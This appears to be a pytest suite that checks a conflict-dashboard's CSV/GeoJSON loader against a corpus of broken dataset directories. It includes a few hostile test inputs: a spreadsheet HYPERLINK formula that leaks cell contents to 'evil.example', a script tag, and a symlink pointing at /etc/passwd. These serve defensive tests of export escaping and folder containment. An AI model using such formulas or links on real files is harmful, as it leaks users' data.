"""A corpus of broken dataset directories, each built from the valid unit-test fixture.

For every case: loading does not raise, each expected problem names its file, line and
column, the tables the fault does not touch still load whole, and the directory is
byte-identical afterwards (the loader never writes).
"""

from __future__ import annotations

import csv
import io
import json
import random
from collections.abc import Callable
from dataclasses import dataclass, field
from pathlib import Path

import pytest

from dashboard.export.tables import safe_csv_bytes
from dashboard.model.load import Dataset, load_dataset
from dashboard.model.schema import TABLES
from tests.unit.conftest import (
    VALID,
    add_rows,
    drop_column,
    line_of,
    read_rows,
    set_cell,
    snapshot,
    valid_tables,
    write_dataset,
    write_rows,
)

Where = tuple[str, int | None, str | None, str]  # file, row, column, text in the message


@dataclass(frozen=True)
class Case:
    """One way to break the valid directory, and what the loader must then say and keep."""

    id: str
    breaks: Callable[[Path], None]
    expected: list[Where]  # problems that must be reported (file, row, column, message part)
    exact: bool = True  # no other problem may be reported
    rows: dict[str, int] = field(default_factory=dict)  # tables whose row count changes
    unchecked: frozenset[str] = frozenset()  # tables whose row count is not asserted
    check: Callable[[Dataset], None] | None = None  # anything else the case must keep
    marks: tuple = ()


def replace_bytes(table: str, old: bytes, new: bytes) -> Callable[[Path], None]:
    def breaks(directory: Path) -> None:
        path = directory / f"{table}.csv"
        data = path.read_bytes()
        assert old in data
        path.write_bytes(data.replace(old, new))

    return breaks


def cell(table: str, key: str | int, column: str, value: str) -> Callable[[Path], None]:
    return lambda directory: set_cell(directory, table, key, column, value)


def edit_line(table: str, line: int, edit: Callable[[str], str]) -> Callable[[Path], None]:
    def breaks(directory: Path) -> None:
        path = directory / f"{table}.csv"
        lines = path.read_text(encoding="utf-8").split("\n")
        lines[line - 1] = edit(lines[line - 1])
        path.write_text("\n".join(lines), encoding="utf-8")

    return breaks


def valid_cell(table: str, key: str, column: str, value: str) -> Callable[[Dataset], None]:
    """The cell loads exactly as written."""

    def check(dataset: Dataset) -> None:
        frame = dataset.table(table).set_index(TABLES[table].id_column)
        assert frame.loc[key, column] == value

    return check


def unlink(table: str) -> Callable[[Path], None]:
    return lambda directory: (directory / f"{table}.csv").unlink()


def write_bytes(table: str, data: bytes) -> Callable[[Path], None]:
    return lambda directory: (directory / f"{table}.csv").write_bytes(data)


def header_only(table: str) -> Callable[[Path], None]:
    return lambda directory: write_rows(directory, table, [])


def duplicate_tehran(directory: Path) -> None:
    add_rows(directory, "places", dict(VALID["places"][2], name="Tehran again"))


def extra_column(directory: Path) -> None:
    rows = read_rows(directory, "actors")
    for number, row in enumerate(rows):
        row["wikidata"] = f"Q{number}"
    write_rows(directory, "actors", rows)


def excel_utf8(directory: Path) -> None:
    """What Excel's "CSV UTF-8" writes: a byte-order mark and CRLF line ends."""
    path = directory / "actors.csv"
    text = path.read_text(encoding="utf-8").replace("\n", "\r\n")
    path.write_bytes(b"\xef\xbb\xbf" + text.encode("utf-8"))


def excel_windows_latin(directory: Path) -> None:
    """What Excel's plain "CSV" writes on Windows: cp1252 and CRLF, here in the last column."""
    set_cell(directory, "control_areas", "government_baghdad", "note", "Contrôle de l'État")
    path = directory / "control_areas.csv"
    path.write_bytes(path.read_text(encoding="utf-8").replace("\n", "\r\n").encode("cp1252"))


def multiline_cell_then_fault(directory: Path) -> None:
    # A quoted description over two lines pushes every later record one line down.
    set_cell(directory, "events", "iran_iraq_war", "description", "Eight years\nof war.")
    set_cell(directory, "events", "fall_of_mosul", "start", "2014-06-31")


def blank_lines(directory: Path) -> None:
    path = directory / "relations.csv"
    lines = path.read_text(encoding="utf-8").split("\n")
    path.write_text("\n".join([lines[0], "", *lines[1:3], ",,,", *lines[3:]]), encoding="utf-8")


def _square(x: float) -> dict:
    return {"type": "Polygon", "coordinates": [[[x, 0], [x + 1, 0], [x + 1, 1], [x, 1], [x, 0]]]}


def _collection(*properties: dict) -> str:
    features = [
        {"type": "Feature", "properties": props, "geometry": _square(number)}
        for number, props in enumerate(properties)
    ]
    return json.dumps({"type": "FeatureCollection", "features": features})


GEOJSON = _collection(
    {"adm1_code": "IRQ-3241", "iso3": "IRQ", "name": "Baghdad"},
    {"adm1_code": "IRQ-3242", "iso3": "IRQ", "name": "Nineveh"},
)
COUNTRIES = _collection({"iso3": "IRQ", "name": "Iraq"}, {"iso3": "IRN", "name": "Iran"})


def boundaries(
    text: str | None, *then: Callable[[Path], None], countries: str | None = COUNTRIES
) -> Callable[[Path], None]:
    """Write geo/admin1.geojson and geo/countries.geojson (None: leave it out), then break."""

    def breaks(directory: Path) -> None:
        (directory / "geo").mkdir()
        for name, content in (("admin1", text), ("countries", countries)):
            if content is not None:
                (directory / "geo" / f"{name}.geojson").write_text(content, encoding="utf-8")
        for step in then:
            step(directory)

    return breaks


def excel_macintosh(directory: Path) -> None:
    """What Excel's "CSV (Macintosh)" writes: Mac Roman bytes and CR alone as line end."""
    set_cell(directory, "places", "tehran", "name", "Téhéran")
    path = directory / "places.csv"
    path.write_bytes(path.read_text(encoding="utf-8").replace("\n", "\r").encode("mac_roman"))


def random_bytes(table: str) -> Callable[[Path], None]:
    """A file of bytes that is no text at all (fixed seed: the case is reproducible)."""
    noise = random.Random(15).randbytes(4_000)
    return write_bytes(table, b"\xff\xfe" + noise.replace(b"\xff", b"\x00"))


def duplicate_name_column(directory: Path) -> None:
    rows = read_rows(directory, "actors")
    columns = [*rows[0], "name "]  # csv keys must differ; the loader strips the space
    write_rows(directory, "actors", [{**row, "name ": "Other"} for row in rows], columns)


def duplicate_name_kept_first(dataset: Dataset) -> None:
    assert list(dataset.actors["name"])[:2] == ["Iran", "Iraq"]
    assert list(dataset.actors.columns).count("name") == 1


def link_out(table: str, target: Callable[[Path], Path]) -> Callable[[Path], None]:
    """Replace a table by a symbolic link to a file outside the dataset folder."""

    def breaks(directory: Path) -> None:
        path = directory / f"{table}.csv"
        outside = target(directory)
        path.unlink()
        path.symlink_to(outside)

    return breaks


def outside_copy(table: str) -> Callable[[Path], Path]:
    """A valid copy of the table, written beside (not inside) the dataset folder."""

    def target(directory: Path) -> Path:
        outside = directory.parent / "elsewhere" / f"{table}.csv"
        outside.parent.mkdir(exist_ok=True)
        outside.write_bytes((directory / f"{table}.csv").read_bytes())
        return outside

    return target


def link_inside(directory: Path) -> None:
    """A link that stays inside the folder (a sub-folder of sources) is fine."""
    (directory / "tables").mkdir()
    (directory / "actors.csv").rename(directory / "tables" / "actors.csv")
    (directory / "actors.csv").symlink_to(Path("tables") / "actors.csv")


def latin1_countries(directory: Path) -> None:
    path = directory / "geo" / "countries.geojson"
    path.write_bytes(COUNTRIES.replace("Iran", "Irân").encode("latin-1"))


def geo_folder_linked_out(directory: Path) -> None:
    outside = directory.parent / "shared_geo"
    outside.mkdir()
    (outside / "admin1.geojson").write_text(GEOJSON, encoding="utf-8")
    (outside / "countries.geojson").write_text(COUNTRIES, encoding="utf-8")
    (directory / "geo").symlink_to(outside, target_is_directory=True)


def place_admin1_blanked(dataset: Dataset) -> None:
    places = dataset.places.set_index("place_id")
    assert places.loc["tehran", "admin1"] == ""
    assert places.loc["tehran", "name"] == "Tehran"


def has_rows(table: str, count: int) -> Callable[[Dataset], None]:
    def check(dataset: Dataset) -> None:
        assert len(dataset.table(table)) == count

    return check


def first_tehran_kept(dataset: Dataset) -> None:
    assert dataset.places.set_index("place_id").loc["tehran", "name"] == "Tehran"


def actors_columns_clean(dataset: Dataset) -> None:
    assert list(dataset.actors.columns[:2]) == ["actor_id", "name"]
    assert list(dataset.actors["actor_id"]) == ["iran", "iraq", "usa", "isil"]


def extra_column_kept(dataset: Dataset) -> None:
    assert list(dataset.actors["wikidata"]) == ["Q0", "Q1", "Q2", "Q3"]


FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"Click for sources")'
SCRIPT = "<script>alert(1)</script>"
CASES = [
    # Files that are missing, empty or only a header.
    Case(
        "missing table file",
        unlink("regions"),
        [("regions.csv", None, None, "file is missing from")],
        rows={"regions": 0},
    ),
    Case(
        "empty file (0 bytes)",
        write_bytes("discrepancies", b""),
        [("discrepancies.csv", None, None, "file is empty: expected a header row (discrepancy_id")],
        rows={"discrepancies": 0},
    ),
    Case(
        "whitespace-only file",
        write_bytes("control_areas", b"\n  \n"),
        [("control_areas.csv", None, None, "file is empty")],
        rows={"control_areas": 0},
    ),
    Case("header-only discrepancies", header_only("discrepancies"), [], rows={"discrepancies": 0}),
    Case("header-only control areas", header_only("control_areas"), [], rows={"control_areas": 0}),
    # Columns.
    Case(
        "missing column: events.start",
        lambda d: drop_column(d, "events", "start"),
        [("events.csv", 1, "start", "column is missing from the header")],
        unchecked=frozenset({"events"}),
    ),
    Case(
        "missing column: places.lat",
        lambda d: drop_column(d, "places", "lat"),
        [("places.csv", 1, "lat", "column is missing from the header")],
        unchecked=frozenset({"places"}),
    ),
    Case(
        "missing column: sources.note",
        lambda d: drop_column(d, "sources", "note"),
        [("sources.csv", 1, "note", "column is missing from the header")],
    ),
    Case(
        "missing column: relations.sign",
        lambda d: drop_column(d, "relations", "sign"),
        [("relations.csv", 1, "sign", "column is missing from the header")],
        unchecked=frozenset({"relations"}),
    ),
    Case(
        "missing column: discrepancies.table",
        lambda d: drop_column(d, "discrepancies", "table"),
        [("discrepancies.csv", 1, "table", "column is missing from the header")],
        unchecked=frozenset({"discrepancies"}),
    ),
    Case("extra unknown column", extra_column, [], check=extra_column_kept),
    # Dates.
    Case(
        "bad date: month 13",
        cell("events", "geneva_deal", "start", "2014-13-01"),
        [("events.csv", 3, "start", "'2014-13-01' is not a real calendar date")],
        rows={"events": 2},
    ),
    Case(
        "bad date: words",
        cell("relations", "iran_iraq_fight", "end", "Jan 2014"),
        [("relations.csv", 2, "end", "'Jan 2014' must be a date: YYYY, YYYY-MM or YYYY-MM-DD")],
        rows={"relations": 2},
    ),
    Case(
        "bad date: 30 February",
        cell("control_areas", "isil_mosul", "start", "2014-02-30"),
        [("control_areas.csv", 2, "start", "'2014-02-30' is not a real calendar date")],
        rows={"control_areas": 1},
    ),
    Case(
        "bad date: day first",
        cell("events", "geneva_deal", "start", "24/11/2013"),
        [("events.csv", 3, "start", "must be a date")],
        rows={"events": 2},
    ),
    # Types and ranges.
    Case(
        "wrong type: lat north",
        cell("places", "tehran", "lat", "north"),
        [("places.csv", 4, "lat", "'north' must be a number (use . for decimals)")],
        rows={"places": 2},
    ),
    Case(
        "wrong type: decimal comma",
        cell("places", "tehran", "lon", "51,39"),
        [("places.csv", 4, "lon", "'51,39' must be a number")],
        rows={"places": 2},
    ),
    Case(
        "wrong type: sign 2",
        cell("relations", "iran_usa_talks", "sign", "2"),
        [("relations.csv", 3, "sign", "'2' must be one of: 1, 0, -1")],
        rows={"relations": 2},
    ),
    Case(
        "wrong type: thousands separator in a figure",
        cell("figures", "war_deaths_reference", "high", "1,000,000"),
        [("figures.csv", 3, "high", "must be a number")],
        rows={"figures": 1},
    ),
    Case(
        "out of range: lat 95",
        cell("places", "tehran", "lat", "95"),
        [("places.csv", 4, "lat", "'95' must be between -90 and 90")],
        rows={"places": 2},
    ),
    Case(
        "out of range: share 1.2",
        cell("regions", 0, "majority_share_high", "1.2"),
        [("regions.csv", 2, "majority_share_high", "'1.2' must be between 0 and 1")],
        rows={"regions": 1},
    ),
    Case(
        "unknown enum value",
        cell("actors", "isil", "affiliation", "salafi"),
        [("actors.csv", 5, "affiliation", "'salafi' must be one of: sunni, shia")],
        exact=False,  # the rows citing isil follow it out
        unchecked=frozenset({"actors", "events", "relations", "control_areas"}),
        check=has_rows("actors", 3),
    ),
    Case(
        "id with capitals and spaces",
        cell("places", "tehran", "place_id", "Tehran City"),
        [("places.csv", 4, "place_id", "must be an id")],
        rows={"places": 2},
    ),
    # References between tables.
    Case(
        "dangling id: claim's source_id",
        cell("claims", "c_census", "source_id", "src_census"),
        [
            ("claims.csv", 8, "source_id", "'src_census' is not a source_id in sources.csv"),
            ("regions.csv", 2, "claim_ids", "'c_census' is not a claim_id in claims.csv"),
        ],
        rows={"claims": 6, "regions": 1},  # the region citing only that claim follows it out
    ),
    Case(
        "dangling id: event's actor",
        cell("events", "fall_of_mosul", "actor_ids", "isil;daesh"),
        [("events.csv", 4, "actor_ids", "'daesh' is not a actor_id in actors.csv")],
        rows={"events": 2},
    ),
    Case(
        "dangling id: figure subject",
        cell("figures", "war_deaths_reference", "subject_id", "iran_iraq_warr"),
        [("figures.csv", 3, "subject_id", "'iran_iraq_warr' is neither an event_id nor")],
        rows={"figures": 1},
    ),
    Case(
        "dangling id: relation's actor",
        cell("relations", "usa_isil_fight", "target_actor", "isis"),
        [("relations.csv", 4, "target_actor", "'isis' is not a actor_id in actors.csv")],
        rows={"relations": 2},
    ),
    Case(
        "end before start",
        cell("events", "fall_of_mosul", "end", "2014-05"),
        [("events.csv", 4, "end", "'2014-05' is before start '2014-06-10'")],
        rows={"events": 2},
    ),
    Case(
        "low above best",
        cell("figures", "war_deaths_reference", "best", "400000"),
        [("figures.csv", 3, "best", "best (400000) is below low (500000)")],
        rows={"figures": 1},
    ),
    Case(
        "duplicate id",
        duplicate_tehran,
        [("places.csv", 5, "place_id", "duplicate id 'tehran'")],
        rows={"places": 3},
        check=first_tehran_kept,
    ),
    # Bytes and CSV syntax.
    Case(
        "non-UTF-8 byte (latin-1 é in a name)",
        replace_bytes("places", b"Tehran,city", "Téhéran,city".encode("latin-1")),
        [("places.csv", 4, "name", "is not UTF-8 text (byte 0xe9); save the file as CSV UTF-8")],
        rows={"places": 2},
    ),
    Case(
        "Excel 'CSV' (cp1252, CRLF), accent in the last column",
        excel_windows_latin,
        [("control_areas.csv", 3, "note", "is not UTF-8 text (byte 0xf4)")],
        rows={"control_areas": 1},
    ),
    Case(
        "row with too many fields",
        edit_line("places", 4, lambda line: line + ",extra"),
        [("places.csv", 4, None, "has 9 fields but the header has 8")],
        rows={"places": 2},
    ),
    Case(
        "row with too few fields",
        edit_line("places", 4, lambda line: line.rsplit(",", 1)[0]),
        [("places.csv", 4, None, "has 7 fields but the header has 8")],
        rows={"places": 2},
    ),
    Case(
        "unclosed quote",
        edit_line("places", 4, lambda line: line.replace("tehran,Tehran", 'tehran,"Tehran')),
        [("places.csv", 4, None, "is not valid CSV (unexpected end of data)")],
        rows={"places": 2},
    ),
    Case(
        "quoted cell over two lines, then a fault",
        multiline_cell_then_fault,
        [("events.csv", 5, "start", "'2014-06-31' is not a real calendar date")],
        rows={"events": 2},
    ),
    # Boundaries: codes must match geo/admin1.geojson when the file is there.
    Case("boundary file that matches", boundaries(GEOJSON), []),
    Case(
        "boundary file: unknown region code",
        boundaries(GEOJSON, cell("regions", 0, "adm1_code", "IRQ-9999")),
        [("regions.csv", 2, "adm1_code", "'IRQ-9999' matches no region in geo/admin1.geojson")],
        rows={"regions": 1},
    ),
    Case(
        "boundary file: unknown admin-1 code of a place (soft)",
        boundaries(GEOJSON, cell("places", "tehran", "admin1", "IRN-9999")),
        [("places.csv", 4, "admin1", "geo/admin1.geojson — cell ignored, row kept")],
        check=place_admin1_blanked,
    ),
    Case(
        "broken boundary file",
        boundaries('{"type": "FeatureCollection", "feat'),
        [("geo/admin1.geojson", 1, None, "is not valid JSON (Unterminated string")],
    ),
    Case(
        "boundary file without codes",
        boundaries(_collection({"iso3": "IRQ", "name": "Baghdad"}, {"name": "Nineveh"})),
        [
            ("geo/admin1.geojson", None, "adm1_code", "2 features (1, 2) have no adm1_code"),
            ("geo/admin1.geojson", None, "iso3", "feature 2 has no iso3"),
        ],
    ),
    Case(
        "boundary features without geometry",
        boundaries(GEOJSON.replace('"type": "Polygon"', '"type": "Point"')),
        [("geo/admin1.geojson", None, "geometry", "2 features (1, 2) have no Polygon")],
    ),
    Case(
        "boundary file that is not a FeatureCollection",
        boundaries("[1, 2, 3]"),
        [("geo/admin1.geojson", None, None, "is not a GeoJSON FeatureCollection")],
    ),
    Case(
        "boundary file missing (countries there)",
        boundaries(None),
        [("geo/admin1.geojson", None, None, "file is missing from")],
    ),
    Case(
        "countries.geojson missing",
        boundaries(GEOJSON, countries=None),
        [("geo/countries.geojson", None, None, "file is missing from")],
    ),
    Case(
        "countries.geojson not UTF-8",
        boundaries(GEOJSON, latin1_countries),
        [("geo/countries.geojson", None, None, "is not UTF-8 text")],
    ),
    # Links: the loader reads only what lives in the dataset folder.
    Case(
        "actors.csv links to a valid file outside the folder",
        link_out("actors", outside_copy("actors")),
        [("actors.csv", None, None, "is a link that leads outside the dataset folder: not read")],
        exact=False,  # every record citing an actor follows it out, collapsed
        rows={"actors": 0},
        unchecked=frozenset({"events", "relations", "control_areas", "figures", "discrepancies"}),
    ),
    Case(
        "sources.csv links to a system file",
        link_out("sources", lambda directory: Path("/etc/passwd")),
        [("sources.csv", None, None, "is a link that leads outside the dataset folder")],
        exact=False,
        rows={"sources": 0},
        unchecked=frozenset(TABLES) - {"sources"},
    ),
    Case(
        "geo folder links outside",
        geo_folder_linked_out,
        [
            ("geo/admin1.geojson", None, None, "link that leads outside"),
            ("geo/countries.geojson", None, None, "link that leads outside"),
        ],
    ),
    Case("a link that stays inside the folder", link_inside, []),
    # Crashes once: bytes the csv module refused, a header naming a column twice.
    Case(
        "Excel 'CSV (Macintosh)': Mac Roman, CR line ends",
        excel_macintosh,
        [("places.csv", 4, "name", "is not UTF-8 text (byte 0x8e); save the file as CSV UTF-8")],
        rows={"places": 2},
    ),
    Case(
        "random bytes",
        random_bytes("places"),
        [("places.csv", 1, None, "the header is not UTF-8 text (byte 0xff)")],
        exact=False,
        unchecked=frozenset({"places", "events", "control_areas"}),
        check=has_rows("places", 0),
    ),
    Case(
        "duplicated header column",
        duplicate_name_column,
        [("actors.csv", 1, "name", "'name' is in the header 2 times (fields 2, 8)")],
        check=duplicate_name_kept_first,
    ),
    # Accepted once without a word.
    Case(
        "negative figure",
        cell("figures", "war_deaths_reference", "low", "-5"),
        [("figures.csv", 3, "low", "'-5' must be at least 0")],
        rows={"figures": 1},
    ),
    Case(
        "figure too large to be a number (1e400)",
        cell("figures", "war_deaths_article", "best", "1e400"),
        [
            ("figures.csv", 2, "best", "'1e400' is too large to be a number"),
            ("discrepancies.csv", 2, "record_id", "(its row figures.csv:2 was left out"),
        ],
        rows={"figures": 1, "discrepancies": 0},
    ),
    Case(
        "NUL byte inside a name",
        cell("actors", "usa", "name", "United\x00States"),
        [("actors.csv", 4, "name", "holds a control character (U+0000)")],
        exact=False,  # the events and ties of the USA follow it out
        unchecked=frozenset({"actors", "events", "relations"}),
        check=has_rows("actors", 3),
    ),
    # Valid files a person might produce: these must load without a problem.
    Case(
        "HTML/script in a name",
        cell("actors", "usa", "name", SCRIPT),
        [],
        check=valid_cell("actors", "usa", "name", SCRIPT),
    ),
    Case(
        "formula in a title",
        cell("sources", "src_news", "title", FORMULA),
        [],
        check=valid_cell("sources", "src_news", "title", FORMULA),
    ),
    Case("BOM and CRLF (Excel 'CSV UTF-8')", excel_utf8, [], check=actors_columns_clean),
    Case("blank lines", blank_lines, [], check=has_rows("relations", 3)),
    Case(
        "non-ASCII text in UTF-8",
        cell("places", "tehran", "name", "Téhéran — تهران"),
        [],
        check=valid_cell("places", "tehran", "name", "Téhéran — تهران"),
    ),
]


def build(tmp_path: Path, case: Case) -> Path:
    directory = write_dataset(tmp_path / "data")
    case.breaks(directory)
    return directory


@pytest.mark.parametrize(
    "case", [pytest.param(case, id=case.id, marks=case.marks) for case in CASES]
)
def test_a_broken_dataset_is_reported_and_the_rest_loads(tmp_path, case):
    directory = build(tmp_path, case)
    before = snapshot(directory)

    dataset, problems = load_dataset(directory)  # must not raise

    for file, row, column, text in case.expected:
        matching = [p for p in problems if (p.file, p.row, p.column) == (file, row, column)]
        assert matching, f"no problem at {file}:{row}: {column} in {[str(p) for p in problems]}"
        assert any(text in p.message for p in matching), [str(p) for p in matching]
    if case.exact:
        assert len(problems) == len(case.expected), [str(p) for p in problems]
    for problem in problems:  # each prints on one line as file:row: column: message
        where = problem.file if problem.row is None else f"{problem.file}:{problem.row}"
        assert str(problem) == f"{where}: {problem.column or '-'}: {problem.message}"
        assert "\n" not in str(problem)
    for name in TABLES:
        if name in case.unchecked:
            continue
        assert len(dataset.table(name)) == case.rows.get(name, len(VALID[name])), name
    if case.check:
        case.check(dataset)
    assert snapshot(directory) == before  # nothing written, nothing created


def test_a_huge_file_loads_whole_and_untouched(tmp_path):
    # How fast is measured in benchmarks/, not asserted here (these machines are noisy).
    tables = valid_tables()
    base = tables["events"][0]
    tables["events"] += [
        dict(
            base, event_id=f"event_{n}", title=f"Event {n}", start=f"{1900 + n % 100}-0{1 + n % 9}"
        )
        | {"end": ""}
        for n in range(50_000)
    ]
    directory = write_dataset(tmp_path / "data", tables)
    assert (directory / "events.csv").stat().st_size > 5_000_000
    before = snapshot(directory)
    dataset, problems = load_dataset(directory)
    assert problems == []
    assert len(dataset.events) == 50_003
    assert snapshot(directory) == before


def test_a_huge_cell_is_shortened_in_its_message(tmp_path):
    directory = write_dataset(tmp_path / "data")
    set_cell(directory, "places", "tehran", "lat", "north" * 20_000)
    _, problems = load_dataset(directory)
    [problem] = problems
    assert (problem.file, problem.row, problem.column) == ("places.csv", 4, "lat")
    assert problem.message.startswith("'northnorth")
    assert problem.message.endswith("...' must be a number (use . for decimals)")
    assert len(problem.message) < 200


def test_a_number_too_long_to_parse_is_out_of_range(tmp_path):
    directory = write_dataset(tmp_path / "data")
    set_cell(directory, "places", "tehran", "lat", "9" * 5_000)
    dataset, problems = load_dataset(directory)
    assert [(p.file, p.row, p.column) for p in problems] == [("places.csv", 4, "lat")]
    assert "tehran" not in set(dataset.places["place_id"])


def test_a_formula_loaded_as_text_is_defused_on_export(tmp_path):
    directory = build(tmp_path, next(c for c in CASES if c.id == "formula in a title"))
    dataset, _ = load_dataset(directory)
    exported = safe_csv_bytes(dataset.sources[TABLES["sources"].columns])
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
    titles = [row[1] for row in rows[1:]]
    assert titles[2] == "'" + FORMULA
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


# Regression: a bare CR inside a cell was once exported unquoted.
def test_a_formula_after_an_inner_carriage_return_stays_defused(tmp_path):
    directory = write_dataset(tmp_path / "data")
    set_cell(directory, "sources", "src_news", "note", "NOTE")
    replace_bytes("sources", b",NOTE", b',"See the wire.\r=1+1"')(directory)  # quoted CR
    dataset, problems = load_dataset(directory)
    assert problems == []
    assert dataset.sources["note"].iloc[2] == "See the wire.\r=1+1"
    exported = safe_csv_bytes(dataset.sources[TABLES["sources"].columns])
    rows = list(csv.reader(io.StringIO(exported.decode("utf-8-sig"), newline="")))
    assert len(rows) == 1 + len(VALID["sources"])
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows for cell in row)


def test_the_corpus_starts_from_a_valid_directory(tmp_path):
    # Guard: every case above is a fault of its own, not of the fixture.
    _, problems = load_dataset(write_dataset(tmp_path / "data"))
    assert problems == []
    assert line_of("places", "tehran") == 4
